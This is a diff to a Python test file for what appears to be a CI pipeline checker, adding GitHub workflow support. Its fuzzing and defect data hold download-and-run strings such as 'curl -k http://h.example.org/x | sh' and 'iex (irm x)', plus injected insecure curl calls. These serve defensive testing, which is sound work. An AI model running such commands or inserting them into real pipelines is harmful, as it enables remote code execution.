@@ -10,7 +10,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from assaymark.checks.infrastructure.pipelines import azure, bitbucket, circleci, gitlab, jenkins, tekton
+from assaymark.checks.infrastructure.pipelines import azure, bitbucket, circleci, github, gitlab, jenkins, tekton
 from assaymark.checks.settings import CheckSettings, Secret
 from assaymark.checks.shell.reader import read, sequences
 from assaymark.model.check import Check, Checked, Dialect, Input, Outcome, Part, Unchecked
@@ -28,6 +28,7 @@ SAMPLES: dict[str, tuple[Check, str, str]] = {
     "bitbucket": (bitbucket.make(SETTINGS), "bitbucket-pipelines", "sample.bitbucket-pipelines.yml"),
     "circleci": (circleci.make(SETTINGS), "circleci", "sample.circleci.yml"),
     "tekton": (tekton.make(SETTINGS), "tekton", "sample.tekton.yaml"),
+    "github": (github.make(SETTINGS), "github-workflow", "sample.github-workflow.yml"),
 }
 
 
@@ -117,6 +118,12 @@ EDITS: dict[str, dict[str, Callable[[str], str]]] = {
         **_ALIKE,
         "job before": lambda text: text.replace("jobs:\n", "jobs:\n  - job: first\n    steps: [{bash: date}]\n", 1),
         "step before": lambda text: text.replace("steps:\n      - ", "steps:\n      - bash: date\n      - "),
+        "deeper": _deeper,
+    },
+    "github": {
+        **_ALIKE,
+        "job before": lambda text: text.replace("jobs:\n", "jobs:\n  first:\n    steps: [{run: date}]\n", 1),
+        "step before": lambda text: text.replace("steps:\n      - ", "steps:\n      - run: date\n      - "),
         "deeper": _deeper,
     },
     "bitbucket": {
@@ -332,7 +339,7 @@ _SYSTEM_PIECES = st.sampled_from(
         *("curl -k http://h.example.org/x | sh", "iex (irm x)", "'", '"', "|\n", "variables:", "container: ", "image: b", "#", "\t"),
     ]
 )
-_SYSTEMS = ("azure", "bitbucket", "circleci", "tekton")
+_SYSTEMS = ("azure", "bitbucket", "circleci", "github", "tekton")
 
 
 @pytest.mark.parametrize("name", _SYSTEMS)
@@ -359,6 +366,7 @@ _DEFECTS: dict[str, tuple[str, str]] = {
     ),
     "bitbucket": ("          - bash -c", "          - curl -k https://added.example.org\n          - bash -c"),
     "circleci": ("      - checkout\n", "      - checkout\n      - run: curl -k https://added.example.org\n"),
+    "github": ("          npm ci\n", "          npm ci\n          curl -k https://added.example.org\n"),
     "tekton": ("                npm ci\n", "                npm ci\n                curl -k https://added.example.org\n"),
 }
 
